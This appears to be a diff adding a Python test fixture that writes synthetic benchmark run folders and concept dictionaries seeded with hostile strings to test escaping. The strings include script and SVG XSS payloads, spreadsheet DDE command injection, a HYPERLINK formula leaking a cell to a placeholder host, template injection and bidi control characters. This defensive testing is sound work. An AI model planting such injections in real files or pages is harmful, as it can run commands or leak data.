@@ -1,0 +1,402 @@
+"""Small finished run folders with hostile texts, written without a model by the project's own writers.
+
+Tokens are words. A word excites the same few concepts wherever it stands, so that coverage, scores and activations of
+tokens belong together: on items with the word ``Roman`` the drawn model fails.
+"""
+
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass
+from pathlib import Path
+
+import numpy as np
+import polars as pl
+
+from competency_gaps.activations.pooling import SparseRow
+from competency_gaps.activations.store import CasStore, make_block
+from competency_gaps.activations.tokens import token_row, token_tensors
+from competency_gaps.config import RunConfig, as_dict
+from competency_gaps.dictionary import label_table
+from competency_gaps.dictionary.flags import LatentFacts
+from competency_gaps.dictionary.folder import write_dictionary
+from competency_gaps.dictionary.themes import ThemeNames, Themes, name_table, theme_table, write_themes
+from competency_gaps.runs.manifest import write_manifest
+from competency_gaps.runs.naming import name_finished_run
+from competency_gaps.runs.results import write_results
+from competency_gaps.sae.reference import Reference
+
+WIDTH = 96
+NAMES = ("sums", '<img src=x onerror="alert(1)">', "=cmd|' /C calc'!A0", "nothing kept")
+"""Benchmarks: scored; scored, with unscored and excluded items; imported without any score; all excluded."""
+SIZES = (120, 90, 20, 2)
+HOSTILE = (
+    "<script>window.hacked = 1</script>",
+    "</script><svg onload=alert(2)>",
+    '=HYPERLINK("http://example.invalid/?"&A1,"win")',
+    "+1+cmd|' /C calc'!A0",
+    "\u202eright to left\u202c and back",
+    "bell\x07 escape\x1b[31m null\x00 end",
+    "{{constructor.constructor('alert(3)')()}}",
+    "🦊🧑‍🚀 astral letters 𝒳 before the word",
+    "line one\r\nline two\tand a tab",
+)
+HUGE = 1_000_000
+"""Characters of the longest prompt."""
+BEFORE, AFTER = "Answer the question.\n\n", "\nAnswer:"
+SECRETS = ("zebrafish", "quartzite", "marzipan")
+"""Words that stand only in prompts, only in responses, and only in expected answers."""
+_WORDS = [
+    *[
+        "which",
+        "of",
+        "these",
+        "is",
+        "the",
+        "smallest",
+        "number",
+        "that",
+        "can",
+        "be",
+        "written",
+        "before",
+        "March",
+        "when",
+        "all",
+        "squares",
+        "are",
+        "blue",
+    ]
+]
+_RARE = [
+    *[
+        "Roman",
+        "numerals",
+        "calendar",
+        "dates",
+        "fractions",
+        "family",
+        "capitals",
+        "negation",
+        "spelling",
+        "units",
+        "prices",
+    ]
+]
+_SAE = {
+    "name": "tiny-sae",
+    "architecture": "jumprelu",
+    "d_in": 32,
+    "d_sae": WIDTH,
+    "dtype": "float32",
+    "hook_name": "blocks.2.hook_resid_post",
+    "model_name": "tiny",
+    "neuronpedia_id": "tiny/2-res",
+    "weights_sha256": "ab" * 32,
+}
+
+
+@dataclass(frozen=True)
+class Made:
+    """A run and its dictionary on disk."""
+
+    run: Path
+    dictionary: Path
+
+
+def hostile_run(folder: Path, *, themes: bool = True, labels: bool = True, seed: int = 0) -> Made:
+    """Write a run and its dictionary.
+
+    Parameters
+    ----------
+    folder
+        Gets ``run`` and ``dictionary``.
+    themes, labels
+        Whether the dictionary has them; the run is named with it where it has any.
+    seed
+        Another one gives other items' scores, and so a run to compare with.
+    """
+    rng = np.random.default_rng(seed)
+    run, dictionary = folder / "run", folder / "dictionary"
+    run.mkdir(parents=True)
+    items = _items(rng)
+    store, words = CasStore(run / "activations", WIDTH), _Words()
+    shards = {name: _shards(store, items, name, number, words) for number, name in enumerate(NAMES)}
+    config = _config()
+    evidence = write_results(
+        run,
+        store,
+        shards,
+        items,
+        tokenizer=words,
+        reference=_reference(),
+        sampled=LatentFacts(_density(), *[np.full(WIDTH, np.nan)] * 2, [None] * WIDTH),
+        config=config,
+    )
+    write_manifest(run, _manifest(items, shards, config, evidence))
+    _dictionary(dictionary, themes=themes, labels=labels)
+    if themes or labels:
+        name_finished_run(run, dictionary)
+    return Made(run, dictionary)
+
+
+def _items(rng: np.random.Generator) -> pl.DataFrame:
+    rows = []
+    for number, (name, size) in enumerate(zip(NAMES, SIZES, strict=True)):
+        for i in range(size):
+            rows.append(_item(rng, name, number, i))
+    return pl.DataFrame(rows, schema=_SCHEMA)
+
+
+_SCHEMA = {
+    **dict.fromkeys(("benchmark", "item_id", "prompt", "text", "response", "answer"), pl.String),
+    "score": pl.Float64,
+    "epochs": pl.Int32,
+    **dict.fromkeys(("policy", "group"), pl.String),
+    **dict.fromkeys(("n_span_tokens", "n_tokens"), pl.Int32),
+    **dict.fromkeys(("excluded", "unscored"), pl.String),
+    **dict.fromkeys(("own_start", "own_end"), pl.Int32),
+    "logprobs": pl.List(pl.Float64),
+    "greedy": pl.List(pl.Boolean),
+    **dict.fromkeys(("details", "identity"), pl.String),
+}
+
+
+def _item(rng: np.random.Generator, name: str, number: int, i: int) -> dict[str, object]:
+    words = [*rng.choice(_WORDS, 7), *rng.choice(_RARE[3 * number : 3 * number + 7], 2), SECRETS[0]]
+    rng.shuffle(words)
+    prompt = " ".join(words) + "?"
+    if i < len(HOSTILE):
+        prompt = f"{HOSTILE[i]} {prompt}"
+    if (number, i) == (0, len(HOSTILE)):
+        prompt = f"{prompt} " + "x" * (HUGE - len(prompt) - 1)
+    excluded = "no tokens of its own" if number == 3 or (number == 1 and i % 40 == 39) else None
+    unscored = excluded is None and (number == 2 or (number == 1 and i % 11 == 5))
+    failing = "Roman" in prompt
+    score = float(rng.random() < (0.15 if failing else 0.8 - 0.2 * number))
+    text = f"{BEFORE}{prompt}{AFTER}"
+    hostile = HOSTILE[i % len(HOSTILE)] if i % 5 == 0 else "plain"
+    return {
+        "benchmark": name,
+        "item_id": f"{i}" if i % 9 else f"{i}<b>&amp;\u202e",
+        "prompt": prompt,
+        "text": text,
+        "response": None if excluded else f"{SECRETS[1]} {hostile}",
+        "answer": None if number == 2 else f"{SECRETS[2]} {i}",
+        "score": None if excluded or unscored else score,
+        "epochs": 1,
+        "policy": ("exact", "choice", "imported", "exact")[number],
+        "group": (None, ("even", "<i>odd</i>")[i % 2])[number == 1],
+        "n_span_tokens": 0 if excluded else len(_tokens(prompt)),
+        "n_tokens": len(_tokens(text)),
+        "excluded": excluded,
+        "unscored": "excluded" if excluded else "no answer could be read" if unscored else None,
+        "own_start": len(BEFORE),
+        "own_end": len(BEFORE) + len(prompt),
+        "logprobs": [-0.5 * (i % 7) - 0.1, -2.25] if number == 1 and not excluded else [],
+        "greedy": [True, False] if number == 1 and not excluded else [],
+        "details": f'{{"verdict": "<b>{SECRETS[1]}</b>", "n": {i}}}' if i % 4 == 0 else None,
+        "identity": None,
+    }
+
+
+def _tokens(text: str) -> list[tuple[str, int, int]]:
+    """Words with the blanks before them, as most tokenizers cut a text."""
+    return [(found.group(), found.start(), found.end()) for found in re.finditer(r"\s*\S+|\s+$", text)]
+
+
+class _Words:
+    """A vocabulary that grows with the words that are read."""
+
+    def __init__(self) -> None:
+        self.texts: list[str] = []
+        self._numbers: dict[str, int] = {}
+
+    def number(self, word: str) -> int:
+        if word not in self._numbers:
+            self._numbers[word] = len(self.texts)
+            self.texts.append(word)
+        return self._numbers[word]
+
+    def batch_decode(self, ids: list[list[int]]) -> list[str]:
+        return [self.texts[one[0]] for one in ids]
+
+
+def excited(word: str) -> dict[int, float]:
+    """Concepts that a word excites, and how strongly; concept 0 is dense, the last eight are never active."""
+    seed = sum((place + 1) * ord(letter) for place, letter in enumerate(word.strip()[:60]))
+    rng = np.random.default_rng(seed)
+    concepts = np.unique([0, *rng.integers(1, WIDTH - 8, 5)])
+    return dict(zip(concepts.tolist(), rng.lognormal(0, 0.6, len(concepts)).astype(np.float32), strict=True))
+
+
+def _read(
+    text: str, own: tuple[int, int], words: _Words
+) -> tuple[SparseRow, np.ndarray, tuple[np.ndarray, np.ndarray]]:
+    """An item's row, the places of its span's tokens, and all its tokens."""
+    tokens = _tokens(text)
+    place = np.array([i for i, (_, a, b) in enumerate(tokens) if a < own[1] and b > own[0]], np.int64)
+    found = [(t, c, v) for t, i in enumerate(place) for c, v in excited(tokens[i][0]).items()]
+    where, who, strength = (np.array(part) for part in zip(*found, strict=True))
+    dense = np.zeros((len(place), WIDTH), np.float32)
+    dense[where, who] = strength
+    active = np.flatnonzero(dense.any(axis=0)).astype(np.int32)
+    row = SparseRow(
+        active,
+        dense.mean(axis=0)[active],
+        dense.argmax(axis=0)[active].astype(np.int32),
+        token_row(where, who, strength),
+    )
+    ids = np.array([words.number(word) for word, _, _ in tokens], np.int32)
+    return row, place, (ids, np.array([(a, b) for _, a, b in tokens], np.int32))
+
+
+def _shards(store: CasStore, items: pl.DataFrame, name: str, number: int, words: _Words, size: int = 50) -> list[str]:
+    own = items.filter(pl.col("benchmark") == name)
+    kept = [i for i, why in enumerate(own["excluded"]) if why is None]
+    kept.sort(key=lambda i: -own["n_tokens"][i])
+    names = []
+    for start in range(0, len(kept), size):
+        some = kept[start : start + size]
+        made = [_read(own["text"][i], (own["own_start"][i], own["own_end"][i]), words) for i in some]
+        rows, places, tokens = (list(part) for part in zip(*made, strict=True))
+        shard = f"b{number:03d}-{start // size:04d}"
+        on = token_tensors([row.tokens for row in rows], places, max(len(ids) for ids, _ in tokens))
+        store.write(shard, make_block(np.array(some), rows, places, tokens, WIDTH), token_tensors=on)
+        names.append(shard)
+    return names
+
+
+def _density() -> np.ndarray:
+    density = np.full(WIDTH, 0.01)
+    density[0] = 0.9
+    return density
+
+
+def _reference() -> Reference:
+    """Base rates; of the eight concepts that are never active in a run four are alive, so they are missing."""
+    density = _density()
+    density[-4:] = 0
+    mean = density * 0.8
+    token = [f"ref{concept}" for concept in range(WIDTH)]
+    known = np.where(density > 0, 0.3, np.nan)
+    return Reference(mean, density, mean / mean.sum(), known, known, 10 * density.clip(0, 0.1), known, token)
+
+
+def _config() -> RunConfig:
+    names = [{"name": name, "source": {"kind": "file", "path": f"b{i}.jsonl"}} for i, name in enumerate(NAMES)]
+    names[0] |= {"before": f"Few shots: {SECRETS[0]}", "scope": "sums of small numbers"}
+    return RunConfig.model_validate(
+        {
+            "model": {"name": "tiny/<b>model</b>", "system_prompt": f"You like {SECRETS[0]}."},
+            "sae": {"folder": "none"},
+            "benchmarks": names,
+        }
+    )
+
+
+def _manifest(
+    items: pl.DataFrame, shards: dict[str, list[str]], config: RunConfig, evidence: dict[str, object]
+) -> dict[str, object]:
+    report = {"benchmark": NAMES[1], "format": "inspect", "model": "another-model", "files": []}
+    warning = "the log is of the model 'another-model', the activations come from 'tiny/<b>model</b>'."
+    benchmarks = [
+        {
+            "name": name,
+            "items": SIZES[number],
+            "content_sha256": "cd" * 32,
+            "policy": ", ".join(items.filter(pl.col("benchmark") == name)["policy"].unique()),
+            "scope": (None, "sums of small numbers")[number == 0],
+            "left_out": [{"where": f"b{number}.jsonl:{line}", "reason": "no <b>answer</b>"} for line in (7, 9)],
+            "source": [{**report, "warnings": [f"{name}: {warning}"]}] if number == 1 else [],
+            "shards": shards[name],
+        }
+        for number, name in enumerate(NAMES)
+    ]
+    return {
+        "created": "2026-11-24T15:40:00+00:00",
+        "command": "cgaps run tiny.yaml --out 'a <b>run</b>'",
+        "versions": {"python": "3.11.7", "competency-gaps": "0.1.0"},
+        "model": {
+            "name": "tiny/<b>model</b>",
+            "class": "LlamaForCausalLM",
+            "dtype": "float32",
+            "hidden_size": 32,
+            "layers": 4,
+            "weights_sha256": "5a" * 32,
+        },
+        "sae": _SAE,
+        "hook": {"name": _SAE["hook_name"], "path": "model.layers.2", "side": "output", "layer": 2},
+        "span": config.span,
+        "pooling": config.pooling,
+        "paper": config.paper,
+        "bos_id": 0,
+        "seeds": {"generation": 0},
+        "gate": {
+            "tokens": 512,
+            "l0": 6.0,
+            "explained_variance": 0.41,
+            "dead_share": 0.1,
+            "d_sae": WIDTH,
+            "passed": False,
+            "forced": True,
+        },
+        "reference": {"name": "reference.parquet", "sha256": "ef" * 32, "lift": True},
+        "dictionary": None,
+        "evidence": evidence,
+        "benchmarks": benchmarks,
+        "settings": as_dict(config),
+        "timings": {"load": 1.0, "reading": 2.5},
+    }
+
+
+def _dictionary(folder: Path, *, themes: bool, labels: bool) -> None:
+    write_dictionary(folder, _SAE, {"name": "tiny/<b>model</b>"})
+    if labels:
+        label_table.write_label_table(folder, _labels())
+    if themes:
+        used = np.arange(WIDTH) < WIDTH - 4
+        theme = (np.arange(WIDTH) // 24).astype(np.int32)[used]
+        subtheme = (np.arange(WIDTH) // 8).astype(np.int32)[used]
+        angle = np.arange(WIDTH)[used] * 2.4
+        xy = np.stack([np.cos(angle), np.sin(angle)], axis=1).astype(np.float32) * np.sqrt(angle)[:, None]
+        names = ThemeNames(["<b>numbers</b>", "=1+1", "words", "time"], [f"part {i}" for i in range(12)])
+        table = theme_table(Themes(theme, subtheme, xy), used)
+        write_themes(folder, table, name_table(names, table))
+    pl.DataFrame(
+        {
+            "concept": pl.Series(range(WIDTH), dtype=pl.Int32),
+            "promoted": [[f" up{concept}", "<b>"] for concept in range(WIDTH)],
+            "promoted_logits": pl.Series([[2.0, 1.0]] * WIDTH, dtype=pl.List(pl.Float32)),
+            "suppressed": [[f" down{concept}"] for concept in range(WIDTH)],
+            "suppressed_logits": pl.Series([[-1.0]] * WIDTH, dtype=pl.List(pl.Float32)),
+        }
+    ).write_parquet(folder / "logits.parquet")
+    pl.DataFrame(
+        {
+            "concept": pl.Series(range(WIDTH), dtype=pl.Int32),
+            "similar": pl.Series([[(c + 1) % WIDTH, (c + 2) % WIDTH] for c in range(WIDTH)], dtype=pl.List(pl.Int32)),
+            "cosine": pl.Series([[0.75, 0.5]] * WIDTH, dtype=pl.List(pl.Float32)),
+        }
+    ).write_parquet(folder / "similar.parquet")
+
+
+def _labels() -> pl.DataFrame:
+    """Of every fourth concept none; the others explained well or poorly, imported, or automatic."""
+    rows = []
+    for concept in range(WIDTH):
+        if concept % 4 == 3:
+            continue
+        kind = ("explained", "imported", "automatic")[concept % 3]
+        score = (0.9, 0.52)[concept % 2] if kind == "explained" else None
+        hostile = HOSTILE[concept % len(HOSTILE)] if concept % 5 == 0 else f"concept of <i>{_RARE[concept % 10]}</i>"
+        label = label_table.clean_label(hostile)
+        rows.append((concept, label, kind, "<b>explainer</b>", "x", score, None, None, "none", False, "2026-11-24"))
+        if kind == "explained":
+            second = (concept, f"second label {concept}", "automatic", None, None, None, None, None, None, True)
+            rows.append((*second, "2026-11-23"))
+    names = [name for name in label_table.SCHEMA if name not in ("score", "scored_by")]
+    table = pl.DataFrame(rows, schema={name: label_table.SCHEMA[name] for name in names}, orient="row")
+    return label_table.with_scores(
+        table.with_columns(score=pl.lit(None, pl.Float64), scored_by=pl.lit(None, pl.String))
+    ).select(*label_table.SCHEMA)
